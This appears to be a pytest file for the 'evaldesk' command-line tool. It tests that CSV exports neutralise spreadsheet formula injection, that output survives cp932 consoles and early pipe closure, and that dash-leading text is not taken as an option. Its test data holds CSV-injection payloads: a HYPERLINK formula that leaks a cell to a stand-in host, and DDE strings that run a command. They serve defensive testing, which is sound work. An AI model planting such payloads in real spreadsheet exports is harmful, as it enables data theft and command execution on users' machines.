"""What the command line writes, where it can hurt: formulas in CSV, consoles that are not UTF-8,
a reader that leaves early (`| head`), and texts that look like options."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

from evaldesk.desk import Desk
from tests.conftest import truth_table
from tests.core.cliproc import REPO, child_env, cli

FORMULAS = {
    "1": ("purpose", '=HYPERLINK("http://example.invalid/?leak="&A1,"詳細")'),
    "2": ("overview", "+cmd|' /C calc'!A0"),
    "3": ("outcome", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "4": ("purpose", "\t=1+1"),
    "5": ("overview", "\r=1+1"),
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _plant_formulas(desk: Desk) -> None:
    for program_id, (field, text) in FORMULAS.items():
        desk.update_program(2024, program_id, {field: text})


def _assert_no_cell_runs(rows: list[dict[str, str]]) -> None:
    by_id = {r.get("program_id") or r["事業番号"]: r for r in rows}
    for program_id, (field, text) in FORMULAS.items():
        row = by_id[program_id]
        cell = row[field]
        assert cell == "'" + text  # shown as the text it is, apostrophe hidden by the spreadsheet
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_START), value


def test_list_csv_neutralises_formulas(sample_desk: Desk) -> None:
    _plant_formulas(sample_desk)
    edited = cli(sample_desk.url, "edit", "--year", "2024", "--program", "7", "--field", "outcome",
                 "--text", "-2+3")  # fmt: skip
    assert edited.code == 0, edited.err  # the text starting with '-' is the text, not an option
    assert sample_desk.program(2024, "7").outcome == "-2+3"

    done = _run_bytes(sample_desk.url, "list", "--format", "csv", encoding="utf-8")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout.decode("utf-8"), newline="")))
    _assert_no_cell_runs(rows)
    assert next(r for r in rows if r["program_id"] == "7")["outcome"] == "'-2+3"
    # JSON is for programs, not spreadsheets: texts stay exactly as stored.
    stored = {r["program_id"]: r for r in cli(sample_desk.url, "list", "--format", "json").json()}
    assert stored["1"]["purpose"] == FORMULAS["1"][1]


def test_export_csv_neutralises_formulas(sample_desk: Desk, tmp_path: Path) -> None:
    _plant_formulas(sample_desk)
    out = tmp_path / "list.csv"
    done = cli(sample_desk.url, "export", "--format", "csv", "--out", out)
    assert done.code == 0, done.err
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    labels = {"purpose": "事業の目的", "overview": "事業の概要", "outcome": "成果"}
    for r in rows:
        for field, label in labels.items():
            r[field] = r.pop(label)
    _assert_no_cell_runs(rows)


def _run_bytes(db: str, *args: str, encoding: str) -> subprocess.CompletedProcess[bytes]:
    env = child_env(PYTHONIOENCODING=encoding, PYTHONUTF8="0")
    return subprocess.run(
        [sys.executable, "-m", "evaldesk", "--db", db, *args],
        capture_output=True, env=env, cwd=REPO, timeout=120, check=False,
    )  # fmt: skip


def test_cp932_console_never_breaks_the_output(sample_desk: Desk) -> None:
    sample_desk.update_program(2024, "1", {"name": "𠮷野家の支援事業🍚", "purpose": "髙橋さんの𠮷"})

    table = _run_bytes(sample_desk.url, "list", encoding="cp932")
    assert table.returncode == 0, table.stderr.decode("cp932", "replace")
    text = table.stdout.decode("cp932")  # every byte is cp932: nothing half-written
    assert "〓野家の支援事業" in text and text.rstrip().endswith("20 件")
    assert b"Traceback" not in table.stderr

    for fmt in ("json", "csv"):
        done = _run_bytes(sample_desk.url, "list", "--format", fmt, encoding="cp932")
        assert done.returncode == 0, done.stderr.decode("cp932", "replace")
        out = done.stdout.decode("utf-8")  # machine formats are UTF-8 whatever the console
        rows = json.loads(out) if fmt == "json" else list(csv.DictReader(io.StringIO(out)))
        assert len(rows) == 20
        first = next(r for r in rows if r["program_id"] == "1")
        assert first["name"] == "𠮷野家の支援事業🍚" and first["purpose"] == "髙橋さんの𠮷"


def test_history_json_is_utf8_on_cp932(sample_desk: Desk) -> None:
    sample_desk.update_program(2024, "1", {"purpose": "𠮷"})
    done = _run_bytes(sample_desk.url, "history", "--year", "2024", "--format", "json", encoding="cp932")
    assert done.returncode == 0
    assert json.loads(done.stdout.decode("utf-8"))[0]["new"] == "𠮷"


def test_a_reader_that_leaves_early_gets_no_error_message(desk: Desk) -> None:
    programs = [
        {"no": i, "program_id": str(i), "name": f"事業{i}", "department": "総務課",
         "purpose": "目的。" * 40, "overview": "概要。" * 40, "outcome": "成果。" * 40}
        for i in range(1, 2001)
    ]  # fmt: skip
    desk.import_table(truth_table(programs), year=2024)  # far more than a pipe holds, in every format
    for fmt in ("table", "json", "csv"):
        proc = subprocess.Popen(
            [sys.executable, "-m", "evaldesk", "--db", desk.url, "list", "--format", fmt],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=child_env(), cwd=REPO,
        )  # fmt: skip
        assert proc.stdout is not None and proc.stderr is not None
        proc.stdout.read(100)  # `| head -c 100`
        proc.stdout.close()
        err = proc.stderr.read()
        proc.stderr.close()
        proc.wait(timeout=60)
        assert err == b"", err.decode("utf-8", "replace")
        assert proc.returncode != 0  # the output was cut: not a success, but no message either


def test_search_and_note_may_start_with_a_dash(sample_desk: Desk) -> None:
    done = cli(sample_desk.url, "list", "--search", "-xyz", "--format", "json")
    assert done.code == 0, done.err
    assert done.json() == []
    linked = cli(sample_desk.url, "link", "--from-year", "2024", "--from", "1", "--to-year", "2024",
                 "--to", "2", "--note", "-統合")  # fmt: skip
    assert linked.code in (0, 1) and "expected one argument" not in linked.err
